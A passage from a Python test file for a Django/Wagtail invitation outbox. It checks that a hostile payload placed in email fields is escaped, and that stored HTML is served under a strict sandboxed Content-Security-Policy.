    for value in ("Dari " + PAYLOAD, "Untuk " + PAYLOAD, "Subjek " + PAYLOAD, "Teks " + PAYLOAD):
        assert_html_safe(inspect.content.decode(), value)

    # "Show as received": the message's own HTML, in an opaque origin with no script.
    shown = admin.get(reverse("invitations_outbox_html", args=[message.pk]))
    assert shown.status_code == 200 and shown.content.decode() == message.html
    policy = {
        directive.split()[0]: directive.split()[1:]
        for directive in shown["Content-Security-Policy"].split(";")
        if directive.strip()
    }
    assert "sandbox" in policy and policy["sandbox"] == []  # no allow-scripts, no allow-same-origin
    assert policy["default-src"] == ["'none'"] and "script-src" not in policy
    assert shown["X-Content-Type-Options"] == "nosniff"

    # A text-only message is shown as text.
    OutboxMessage.objects.filter(pk=message.pk).update(html="")
    shown = admin.get(reverse("invitations_outbox_html", args=[message.pk]))
    assert_html_safe(shown.content.decode(), "Teks " + PAYLOAD)


def test_outbox_backend_keeps_a_hostile_invitation_and_shows_it_safely(world, admin, settings):
    settings.MAILERS = {"default": {"BACKEND": "campaign.invitations.outbox.OutboxBackend"}}
    recipient = world.objects["recipient"]
    services.email_template_save(
        template=recipient.batch.template, subject_id=PAYLOAD, body_id=rich_text(PAYLOAD)
    )
    Recipient.objects.filter(pk=recipient.pk).update(name="Nama " + PAYLOAD)
    assert send(recipient.batch).sent == 1
    stored = OutboxMessage.objects.exclude(pk=world.objects["outboxmessage"].pk).get()
    assert_text_literal(stored.subject, PAYLOAD)
    assert parseaddr(stored.to)[0] == "Nama " + PAYLOAD  # quoted as RFC 5322 wants
    assert_text_literal(stored.text, PAYLOAD)
    assert_html_safe(stored.html, PAYLOAD)  # escaped when merged, before it was kept
    inspect = admin.get(reverse("wagtailsnippets_invitations_outboxmessage:inspect", args=[stored.pk]))
    for value in (stored.to, stored.subject, PAYLOAD):
        assert_html_safe(inspect.content.decode(), value)
